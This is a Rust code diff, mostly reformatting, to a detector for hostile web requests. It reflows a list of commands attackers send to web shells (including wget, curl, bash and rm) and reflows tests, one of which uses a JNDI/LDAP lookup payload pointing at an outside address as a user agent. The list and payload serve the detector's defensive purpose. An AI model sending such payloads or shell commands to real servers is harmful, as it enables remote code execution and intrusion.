@@ -144,7 +144,8 @@ fn meant(sign: Sign, sought: &str, behind: &[u8]) -> bool {
                 || value.iter().any(|b| b" /\\;|`$".contains(b))
         }
         Sign::Hidden | Sign::Shell if sought.ends_with(|c: char| c.is_ascii_alphanumeric()) => {
-            let goes_on = behind.first().is_some_and(|b| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_'));
+            let goes_on =
+                behind.first().is_some_and(|b| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_'));
             let page = behind.get(..4).is_some_and(|ending| ending.eq_ignore_ascii_case(b".htm"));
             !goes_on && !page
         }
@@ -154,8 +155,38 @@ fn meant(sign: Sign, sought: &str, behind: &[u8]) -> bool {
 
 /// What is asked of a web shell first.
 const COMMANDS: &[&str] = &[
-    "id", "whoami", "ls", "dir", "cat", "type", "uname", "pwd", "ps", "env", "hostname", "ifconfig", "ipconfig", "ip", "netstat", "net",
-    "wget", "curl", "echo", "phpinfo", "system", "cmd", "powershell", "sh", "bash", "python", "perl", "tasklist", "systeminfo", "w", "find", "rm",
+    "id",
+    "whoami",
+    "ls",
+    "dir",
+    "cat",
+    "type",
+    "uname",
+    "pwd",
+    "ps",
+    "env",
+    "hostname",
+    "ifconfig",
+    "ipconfig",
+    "ip",
+    "netstat",
+    "net",
+    "wget",
+    "curl",
+    "echo",
+    "phpinfo",
+    "system",
+    "cmd",
+    "powershell",
+    "sh",
+    "bash",
+    "python",
+    "perl",
+    "tasklist",
+    "systeminfo",
+    "w",
+    "find",
+    "rm",
 ];
 
 /// Texts in which lately nothing was found.
@@ -247,11 +278,29 @@ mod tests {
     #[test]
     fn ordinary_requests_are_silent() {
         for text in [
-            "/", "/index.html", "/search?q=select+a+union+of+states", "/a/../b", "/environment", "/gitlab/x.git/info",
-            "Mozilla/5.0 (X11; Linux x86_64; rv:130.0) Gecko/20100101 Firefox/130.0", "/script.js?v=100%", "/img?x=%zz",
-            "/a?q=sleep+better;environment", "/a?x=1&env=prod&ping=1", "curl/8.5.0", "Wget/1.21", "/docs/sleep.html", "/wiki/Orion",
-            "/cgi-bin/webscr?cmd=_xclick", "/cart.php?cmd=add&id=7", "/x?cmd=", "/shell.phpx", "/assets/.environment.js", "/redmine/.env-docs",
-            "/docs/web.config.html", "/backup.sql.html",
+            "/",
+            "/index.html",
+            "/search?q=select+a+union+of+states",
+            "/a/../b",
+            "/environment",
+            "/gitlab/x.git/info",
+            "Mozilla/5.0 (X11; Linux x86_64; rv:130.0) Gecko/20100101 Firefox/130.0",
+            "/script.js?v=100%",
+            "/img?x=%zz",
+            "/a?q=sleep+better;environment",
+            "/a?x=1&env=prod&ping=1",
+            "curl/8.5.0",
+            "Wget/1.21",
+            "/docs/sleep.html",
+            "/wiki/Orion",
+            "/cgi-bin/webscr?cmd=_xclick",
+            "/cart.php?cmd=add&id=7",
+            "/x?cmd=",
+            "/shell.phpx",
+            "/assets/.environment.js",
+            "/redmine/.env-docs",
+            "/docs/web.config.html",
+            "/backup.sql.html",
         ] {
             assert!(names(text).is_empty(), "{text}: {:?}", names(text));
         }
@@ -259,7 +308,8 @@ mod tests {
 
     #[test]
     fn what_recurs_is_judged_alike_each_time() {
-        let agents = ["", "curl/8.5.0", "Mozilla/5.00 (Nikto/2.1.6)", "curl/8.5.0", "${jndi:ldap://192.0.2.1/a}"];
+        let agents =
+            ["", "curl/8.5.0", "Mozilla/5.00 (Nikto/2.1.6)", "curl/8.5.0", "${jndi:ldap://192.0.2.1/a}"];
         let long = format!("Nikto {}", "x".repeat(2 * SHORT));
         for _ in 0..3 {
             for agent in agents.into_iter().chain([long.as_str()]) {
